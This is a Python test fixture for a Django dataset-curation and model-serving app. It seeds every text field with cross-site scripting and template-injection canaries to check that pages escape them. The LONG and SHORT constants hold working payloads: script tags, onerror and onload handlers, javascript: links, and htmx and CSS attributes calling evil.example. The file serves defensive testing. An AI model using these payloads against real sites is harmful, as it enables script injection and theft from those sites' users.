"""Hostile text in every text field of every table, for the pages to show: run inside an installation."""

import json
from typing import Any

from django.core.files.base import ContentFile
from django.core.files.storage import default_storage
from django.db import models
from django.utils import timezone

from atelier import secrets
from atelier.accounts.models import APIKey, Membership, Project, Team, User
from atelier.webhooks.models import Delivery, Webhook
from curation import models as data
from curation.imports import drafts
from curation.scoring import load_rules
from inference import models as serving
from inference.evaluations import scores
from training.models import Adapter, Pull, Run

LONG = (
    "\"'></textarea></title></script><canary-x></canary-x><img src=//evil.example/x onerror=alert(1)>"
    "<svg onload=alert(2)><script>alert(3)</script><iframe srcdoc='<script>alert(4)</script>'></iframe>"
    '<a href="javascript:alert(5)" hx-get="//evil.example/hx" hx-trigger="load" hx-on:load="alert(6)">x</a>'
    '<p data-stream="//evil.example/s" data-chart data-url="//evil.example/c" style="background:url(//evil.example/b)">'
    "[x](javascript:alert(7)) {{ 7*7 }} {% debug %} \u202e<template><canary-x></canary-x></template>"
)
SHORT = "\"'><canary-x hx-get=//evil.example>"
TINY = "<canary-x>"
SLUG = "smollm2-135m-instruct"
# What we make ourselves and never take from a text: hashes, addresses of our storage, keys of other tables.
OURS = {
    "password", "digest", "prefix", "idempotency_key", "content_hash", "source_group", "split", "file", "folder", "slug",
    "base", "answers", "sealed_key", "email",
}  # fmt: skip
MESSAGES = [
    {"role": "system", "content": LONG},
    {"role": "user", "content": LONG},
    {"role": "assistant", "content": LONG},
]
RULES = f"""name = {json.dumps(LONG)}
[[rule]]
id = "length"
title = {json.dumps(LONG)}
kind = "sentence_words"
group = "shape"
params = {{ max = 4 }}
"""
SAMPLING = {"temperature": 0.3, "top_p": 1.0, "max_tokens": 64, "seed": None}


def canary(room: int | None) -> str:
    """Return the most hostile text that a field takes."""
    return next(text for text in (LONG, SHORT, TINY, TINY[:5]) if room is None or len(text) <= room)


def hostile(model: type[models.Model], **given: Any) -> Any:
    """Return a row whose every free text field is hostile, unless it is given."""
    for field in model._meta.get_fields():
        if not isinstance(field, models.CharField | models.TextField) or field.name in {*given, *OURS} or field.choices:
            continue
        given[field.name] = canary(field.max_length)
    return model._default_manager.create(**given)


def plant() -> dict[str, Any]:
    """Create everything once. Returns the ids by the words of the URLs, and a login."""
    owner = hostile(User, username="'\"><canary-x>")
    owner.set_password("a-long-password")
    owner.save()
    team = hostile(Team)
    Membership.objects.create(team=team, user=owner, role="owner")
    hostile(APIKey, team=team, user=owner, digest="0" * 64, prefix="atl_000000")
    project = hostile(Project, team=team, created_by=owner)
    ids = {"project_id": project.pk, "team_id": team.pk, "username": owner.username}
    common = {"project": project, "created_by": owner, "status": "done"}
    ids |= plant_data(project, common)
    ids |= plant_together(project, owner, common, ids)
    return ids | plant_models(project, owner, common, ids)


def plant_data(project: Project, common: dict[str, Any]) -> dict[str, Any]:
    dataset, target = hostile(data.Dataset, project=project), hostile(data.Dataset, project=project, name="x" + SHORT)
    pairs = hostile(data.Dataset, project=project, name="y" + SHORT, kind="preferences")
    job = hostile(
        data.Import, **common, dataset=dataset, done=2, ok=1, failed=1, source={"format": "csv", "columns": [LONG]}
    )
    hostile(data.ImportIssue, parent=job, line=2, outcome="failed", code="x")
    row = json.dumps({LONG: LONG, "messages": MESSAGES}).encode() + b"\n"
    draft = drafts.begin(target, None, file=ContentFile(row * 3, name="x.jsonl"), name=SHORT + LONG)
    problem = [{"code": "x", "message": LONG, "where": LONG, "fixable": True}]
    content = {
        "fields": {LONG: LONG},
        "messages": MESSAGES,
        "metadata": {LONG: LONG},
        "problems": problem,
        "problem_count": 1,
    }
    record = hostile(
        data.Record, dataset=dataset, **content, imported_by=job, import_line=1, split="train", content_hash="1" * 64
    )
    made = hostile(data.Record, dataset=target, **content, source=record, split="test", content_hash="2" * 64)
    sides = {"chosen": MESSAGES[2:], "rejected": [{"role": "assistant", "content": LONG + " worse"}]}
    preference = hostile(data.Record, dataset=pairs, **content, **sides, split="train", content_hash="3" * 64)
    bulk = hostile(data.BulkAction, **common, dataset=dataset, action="accept")
    hostile(
        data.Change,
        record=record,
        before={"messages": MESSAGES, LONG: "a"},
        after={"messages": [], LONG: LONG},
        bulk=bulk,
    )
    teacher = hostile(serving.Endpoint, project=project, kind="openai", is_teacher=True)
    distillation = hostile(
        data.Distillation,
        **common,
        dataset=dataset,
        target=target,
        teacher=teacher,
        sampling=SAMPLING,
        done=1,
        total=1,
        ok=1,
    )
    unit = hostile(
        data.Generation, distillation=distillation, record=record, outcome="failed", prompt=MESSAGES[:2], result=made
    )
    version = hostile(data.Version, **common, dataset=target, number=1, files=files(), rows=2, problems=[
        {"code": "x", "message": LONG, "count": 1, "records": [made.pk]}
    ], tokens={}, content_hash="4" * 64)  # fmt: skip
    data.VersionEntry.objects.create(version=version, record=made, revision=1, split="test", row=1)
    return {
        "import": job.pk, "bulk": bulk.pk, "dataset_id": dataset.pk, "record": record.pk, "distillation": distillation.pk,
        "unit_id": unit.pk, "version": version.pk, "endpoint": teacher.pk, "target": target.pk, "made": made.pk,
        "pairs": pairs.pk, "preference": preference.pk,
        "draft": draft.pk,
    }  # fmt: skip


def plant_together(project: Project, owner: User, common: dict[str, Any], ids: dict[str, Any]) -> dict[str, Any]:
    """Create what teams add: questions, answers that differ, comments, checks, exports, webhooks."""
    dataset, record = data.Dataset.objects.get(pk=ids["dataset_id"]), data.Record.objects.get(pk=ids["record"])
    dataset.labels = [SHORT]
    dataset.save()
    labels = {"labels": [{"value": SHORT, "text": LONG[:80], "color": ""}, {"value": "b", "text": "b", "color": ""}]}
    label = hostile(data.Question, dataset=dataset, kind="label", name="desk", options=labels)
    hostile(data.Question, dataset=dataset, kind="text", name="fix", options={"piece": "messages.2"}, position=1)
    hostile(data.Suggestion, record=record, question=label, value=SHORT, score=0.5)
    queue = hostile(data.Queue, dataset=dataset, overlap=2)
    task = hostile(data.Task, queue=queue, record=record, wanted=2, given=2, submitted=2, state="disputed")
    for number, answer in enumerate((SHORT, "b")):
        user = hostile(User, username=f"{number}{SHORT}")
        Membership.objects.create(team=project.team, user=user, role="annotator")
        hostile(
            data.Annotation, task=task, record=record, user=user, state="submitted",
            answers={"desk": answer, "fix": LONG}, submitted_at=timezone.now(),
        )  # fmt: skip
    places = hostile(
        data.Question, dataset=dataset, kind="spans", name="places", options=labels | {"piece": "messages.2"}
    )
    aside = {"id": "abcdef012345", "start": 0, "end": 9, "label": SHORT, "words": SHORT, "text_hash": "", "base": ""}
    trail = hostile(data.SpanTrail, record=record, question=places, holder="known", aside=[aside], aside_count=1)
    erasure = hostile(
        data.Erasure, **common, dataset=dataset, roots=[record.pk], erased={LONG: 1},
        stays=[{"kind": "run", "label": LONG, "url": "", "why": LONG}],
    )  # fmt: skip
    comment = hostile(data.Comment, record=record, user=owner)
    hostile(data.Mention, user=owner, record=record, comment=comment)
    twin = hostile(
        data.Record, dataset=dataset, messages=MESSAGES, split="test", content_hash="6" * 64, cluster=record.pk,
        labels=[SHORT], map_x=0.5, map_y=0.5,
    )  # fmt: skip
    data.Record.objects.filter(pk=record.pk).update(cluster=record.pk, labels=[SHORT], map_x=0.4, map_y=0.4)
    data.NearDuplicate.objects.create(dataset=dataset, first=record, second=twin, similarity=0.9, crosses=True)
    check = hostile(data.Check, **common, dataset=dataset, part="texts", found={LONG: 1})
    export = hostile(data.Export, **common, dataset=dataset, format="chat", skipped=1, skipped_why=[
        {"reason": LONG, "count": 1, "records": [record.pk]}
    ])  # fmt: skip
    deletion = hostile(data.Deletion, **common)
    selection = hostile(data.Selection, dataset=dataset, size=1)
    data.SelectedRecord.objects.create(selection=selection, record=record)
    hostile(data.SavedFilter, dataset=dataset, filters={"q": SHORT})
    hook = hostile(Webhook, project=project, sealed_secret=secrets.seal("s"))
    tries = [{"at": timezone.now().isoformat(), "status": 500, "seconds": 1.0, "error": LONG, "reply": LONG}]
    delivery = hostile(Delivery, webhook=hook, event="imported", body={LONG: LONG}, tries=tries, state="failed")
    return {
        "question_id": label.pk, "task_id": task.pk, "cluster_id": record.pk, "check": check.pk, "export": export.pk,
        "webhook": hook.pk, "delivery_id": delivery.pk, "issue_id": data.ImportIssue.objects.get().pk,
        "selection": selection.pk, "deletion": deletion.pk, "other": ids["version"],
        "trail_id": trail.pk, "erasure": erasure.pk,
    }  # fmt: skip


def files() -> dict[str, Any]:
    found = {}
    for split in ("train", "validation", "test"):
        text = "".join(json.dumps({"id": f"{split}{n}", "messages": MESSAGES}) + "\n" for n in range(3)).encode()
        name = default_storage.save(f"versions/{split}.jsonl", ContentFile(text))
        found[split] = {"name": name, "sha256": "5" * 64, "bytes": len(text), "rows": 3}
    return found


def plant_models(project: Project, owner: User, common: dict[str, Any], ids: dict[str, Any]) -> dict[str, Any]:
    version, teacher = data.Version.objects.get(pk=ids["version"]), serving.Endpoint.objects.get(pk=ids["endpoint"])
    facts = {
        "loss": 1.5,
        "notes": [LONG],
        "device": LONG,
        "libraries": {LONG: LONG},
        "code": LONG,
        "base_revision": LONG,
    }
    run = hostile(
        Run,
        **common,
        version=version,
        number=1,
        base=SLUG,
        recipe={"base": SLUG, "seed": 1},
        facts=facts,
        summary=facts,
    )
    adapter = hostile(Adapter, project=project, run=run, base=SLUG, folder="runs/1/adapter", digest="6" * 64, rank=4)
    pull = hostile(Pull, **common, slug=SLUG)
    deployment = hostile(serving.Deployment, project=project, base=SLUG, state="failed")
    served = hostile(
        serving.Endpoint, project=project, name="z" + SHORT, kind="served", deployment=deployment, adapter=adapter
    )
    comparison = hostile(serving.Comparison, project=project, sampling=SAMPLING, created_by=owner)
    turn = hostile(serving.Turn, comparison=comparison, index=1, user=owner, order=[0, 1])
    replies = [
        hostile(
            serving.Reply,
            turn=turn,
            side=serving.Side.objects.create(comparison=comparison, position=at, endpoint=one),
            state=state,
            seconds=1,
        )
        for at, (one, state) in enumerate([(teacher, "done"), (served, "failed")])
    ]
    serving.Vote.objects.create(turn=turn, user=owner, verdict="side", winner=replies[0], blind=False)
    entrants = [{"id": teacher.pk, "name": LONG}, {"id": served.pk, "name": LONG}]
    evaluation = hostile(
        serving.Evaluation, **common, version=version, split="test", entrants=entrants, sampling=SAMPLING, rules=RULES
    )
    verdicts = [{"rule": "length", "ok": False, "why": LONG}]
    answers = [
        hostile(
            serving.EvaluationAnswer,
            evaluation=evaluation,
            endpoint=one,
            row=1,
            outcome=outcome,
            prompt=MESSAGES[:2],
            verdicts=verdicts,
        )
        for one, outcome in ((teacher, "ok"), (served, "failed"))
    ]
    evaluation.scores = scores.count(evaluation, load_rules(RULES))
    evaluation.save()
    return {
        "run": run.pk, "pull": pull.pk, "deployment": deployment.pk, "comparison": comparison.pk, "turn_pk": turn.pk,
        "reply_pk": replies[0].pk, "evaluation": evaluation.pk, "answer_pk": answers[0].pk,
    }  # fmt: skip
